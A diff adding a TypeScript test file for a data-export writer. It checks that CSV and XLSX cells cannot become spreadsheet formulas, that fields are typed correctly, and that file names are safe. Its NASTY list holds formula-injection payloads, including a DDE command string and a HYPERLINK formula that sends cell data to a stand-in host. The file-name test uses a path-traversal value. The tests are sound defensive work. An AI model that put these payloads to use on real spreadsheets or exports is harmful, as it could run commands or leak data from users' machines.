@@ -1,0 +1,234 @@
+/** The files of an export, read back by a CSV parser and a ZIP reader that did not write them. */
+import { parse } from "csv-parse/sync";
+import { describe, expect, it } from "vitest";
+import { type ExportPlan, fileName } from "./facts";
+import type { ExportRow } from "./fields";
+import { neutral } from "./neutral";
+import { sheetCells, unzipped } from "./testing";
+import { writeFile } from "./write";
+
+const PLAN: ExportPlan = {
+  format: "csv",
+  columns: undefined,
+  factLines: false,
+  facts: {
+    feed: "Funding",
+    request: "/v1/funding-events?round=seed",
+    filters: [["round", "seed"]],
+    rows: 2,
+    matching: 1284,
+    creditsInView: 60,
+    exportedAt: "2026-11-21T10:00:00.000Z",
+  },
+};
+
+const round = (over: Record<string, unknown> = {}): ExportRow => ({
+  record: {
+    id: "0190a0c0-0000-7000-8000-000000000001",
+    round: "series-a",
+    roundStated: true,
+    amountUsdCents: 420_050,
+    amountUsd: 4200.5,
+    amountOriginalCurrency: "JPY",
+    amountOriginalCents: 650_000,
+    investors: [
+      { id: "i1", name: "Fennick Capital" },
+      { id: "i2", name: "Hollin Growth" },
+    ],
+    announcedAt: "2026-11-18T00:00:00.000Z",
+    discoveredAt: "2026-11-18T06:12:30.000Z",
+    company: {
+      name: "Quorvane",
+      verticals: ["ai", "fintech"],
+      hqCountry: { code: "DE", name: "Germany" },
+      domain: null,
+    },
+    ...over,
+  },
+  heldAt: "2026-11-20T10:29:00.000Z",
+});
+
+const text = async (file: Blob) => new TextDecoder("utf-8", { ignoreBOM: true }).decode(await file.arrayBuffer());
+const cells = async (plan: ExportPlan, rows: ExportRow[]): Promise<Record<string, string>[]> =>
+  parse(await text(await writeFile(plan, rows)), { bom: true, columns: true, comment: plan.factLines ? "#" : "" });
+
+/** What a person or a company may be called, and what a spreadsheet would make of it. */
+const NASTY = [
+  "=1+1",
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("http://evil.example?"&A1,"x")',
+  "+1+1",
+  "+49 30 1234",
+  "-2+3",
+  "-",
+  "@SUM(A1)",
+  "@handle",
+  "\t=1+1",
+  "\r=1+1",
+  "\n=1+1",
+  "  =1+1",
+  "\u00a0=1+1",
+  "x;=1+1",
+  "x\t=1+1",
+  "x\r\n=1+1",
+  "＝1+1",
+  "＋1",
+  "－1",
+  "＠x",
+  '"=1+1',
+] as const;
+
+describe("text that a spreadsheet would calculate", () => {
+  it.each(NASTY)("%j begins no cell", async (name) => {
+    const [row] = await cells(PLAN, [round({ company: { name } })]);
+    const value = String(row?.["company.name"]);
+    // Wherever a spreadsheet may split the line, what follows is no formula.
+    for (const piece of value.split(/[;\t\r\n]/)) expect(piece.trimStart()).not.toMatch(/^[=+\-@＝＋－＠]/);
+    expect(value).not.toMatch(/^[\t\r\n]/);
+    expect(value.replaceAll("'", "")).toBe(name.replaceAll("'", ""));
+  });
+
+  it("is text in a workbook, letter for letter", async () => {
+    const rows = NASTY.map((name) => round({ company: { name } }));
+    const file = await writeFile({ ...PLAN, format: "xlsx", columns: ["company"] }, rows);
+    const sheet = sheetCells(unzipped(new Uint8Array(await file.arrayBuffer())), 1);
+    expect(sheet.slice(1).flat()).toEqual(NASTY.map((value) => ({ type: "s", value, formula: false })));
+  });
+
+  it("harmless text stays as it is", () => {
+    for (const plain of ["Quorvane", "A-B", "x=1", "a@b.example", "", "100 %", "1;2", "Acme; Sons"])
+      expect(neutral(plain)).toBe(plain);
+  });
+
+  it("in a list every entry is looked at", async () => {
+    const [row] = await cells(PLAN, [round({ investors: [{ name: "Ardholt" }, { name: "=1+1" }] })]);
+    expect(row?.["investors.name"]).toBe("Ardholt; '=1+1");
+  });
+
+  it("the heads are too: a host may name its fields as it likes", async () => {
+    const written = await text(await writeFile(PLAN, [round({ "=1+1": "x" })]));
+    expect(written).toContain(`"'=1+1"`);
+  });
+});
+
+describe("CSV", () => {
+  it("begins with a byte order mark, ends its lines with CR LF, and is plain without being asked for more", async () => {
+    const written = await text(await writeFile(PLAN, [round(), round()]));
+    expect(written.startsWith('\ufeff"id","round"')).toBe(true);
+    expect(written.split("\r\n")).toHaveLength(4);
+    expect(written).not.toContain("#");
+  });
+
+  it("has every field by its path, amounts as numbers, dates as ISO", async () => {
+    const written = await text(await writeFile(PLAN, [round()]));
+    const [row] = await cells(PLAN, [round()]);
+    expect(row).toMatchObject({
+      amountUsd: "4200.5",
+      amountOriginal: "650000",
+      amountOriginalCurrency: "JPY",
+      announcedAt: "2026-11-18T00:00:00.000Z",
+      "company.hqCountry.code": "DE",
+      "company.verticals": "ai; fintech",
+      "company.domain": "",
+      "investors.name": "Fennick Capital; Hollin Growth",
+      roundStated: "true",
+      "Owned as of": "2026-11-20T10:29:00.000Z",
+    });
+    expect(written).toContain(",4200.5,");
+  });
+
+  it("a negative number stays a number", async () => {
+    expect(await text(await writeFile(PLAN, [round({ amountUsd: -5 })]))).toContain(",-5,");
+  });
+
+  it("has the columns of the table in their order, with the words that stand there", async () => {
+    const columns = ["amount", "round", "company", "vertical", "announced", "tick"];
+    const [row] = await cells({ ...PLAN, columns }, [
+      round({ amountOriginalCents: 650_000, amountOriginalCurrency: "EUR" }),
+    ]);
+    expect(Object.entries(row ?? {})).toEqual([
+      ["Amount USD", "4200.5"],
+      ["Amount original", "6500"],
+      ["Currency", "EUR"],
+      ["Round", "Series A"],
+      ["Company", "Quorvane"],
+      ["Verticals", "AI; Fintech"],
+      ["Announced", "2026-11-18T00:00:00.000Z"],
+    ]);
+  });
+
+  it("says what it is in its first lines when that is wanted", async () => {
+    const plan = { ...PLAN, factLines: true };
+    const written = await text(await writeFile(plan, [round()]));
+    expect(written.slice(1).split("\r\n").slice(0, 8)).toEqual([
+      "# Feed: Funding",
+      "# Request: /v1/funding-events?round=seed",
+      "# Filter round: seed",
+      "# Rows: 2",
+      "# Matching: 1284",
+      "# Credits in this view: 60",
+      "# Credits for this export: 0",
+      "# Exported at: 2026-11-21T10:00:00.000Z",
+    ]);
+    expect(await cells(plan, [round()])).toHaveLength(1);
+  });
+});
+
+describe("a workbook", () => {
+  it("types its cells and says on a second sheet what it is", async () => {
+    const columns = ["amount", "company", "announced", "deal"];
+    const file = await writeFile({ ...PLAN, format: "xlsx", columns }, [round({ isMerger: false })]);
+    const files = unzipped(new Uint8Array(await file.arrayBuffer()));
+    const [heads, row] = sheetCells(files, 1);
+    expect(heads?.map(({ value }) => value)).toEqual([
+      "Amount USD",
+      "Amount original",
+      "Currency",
+      "Company",
+      "Announced",
+      "Merger",
+    ]);
+    // 46,344 days after the last day of 1899 is 18 November 2026.
+    expect(row?.map(({ type, value }) => [type, value])).toEqual([
+      ["n", "4200.5"],
+      ["n", "650000"],
+      ["s", "JPY"],
+      ["s", "Quorvane"],
+      ["n", "46344"],
+      ["b", "0"],
+    ]);
+    const about = sheetCells(files, 2).map((cellsOfRow) => cellsOfRow.map(({ value }) => value));
+    expect(about).toContainEqual(["Filter round", "seed"]);
+    expect(about).toContainEqual(["Rows", "2"]);
+    expect(about).toContainEqual(["Credits in this view", "60"]);
+  });
+
+  it("cuts a text that no cell can hold", async () => {
+    const file = await writeFile({ ...PLAN, format: "xlsx", columns: ["company"] }, [
+      round({ company: { name: "x".repeat(40_000) } }),
+    ]);
+    const [, row] = sheetCells(unzipped(new Uint8Array(await file.arrayBuffer())), 1);
+    expect(row?.[0]?.value).toHaveLength(32_767);
+  });
+});
+
+describe("JSON", () => {
+  it("holds the records as the API gave them, and what they are in `meta`", async () => {
+    const read: unknown = JSON.parse(await text(await writeFile({ ...PLAN, format: "json" }, [round(), round()])));
+    expect(read).toMatchObject({
+      meta: { Feed: "Funding", Rows: 2, "Filter round": "seed", "Credits for this export": 0 },
+      data: [{ ...Object(round().record), ownedAsOf: round().heldAt }, {}],
+    });
+  });
+
+  it("of no rows is JSON too", async () => {
+    expect(JSON.parse(await text(await writeFile({ ...PLAN, format: "json" }, [])))).toMatchObject({ data: [] });
+  });
+});
+
+it("a file's name says the feed, the filters, the day and the rows", () => {
+  expect(fileName(PLAN)).toBe("dealflow-funding-round-seed-2026-11-21-2-rows.csv");
+  expect(fileName({ ...PLAN, facts: { ...PLAN.facts, filters: [["search", "../../x".repeat(30)]] } })).toMatch(
+    /^dealflow-funding-search-[x-]{1,60}-2026-11-21-2-rows\.csv$/,
+  );
+});
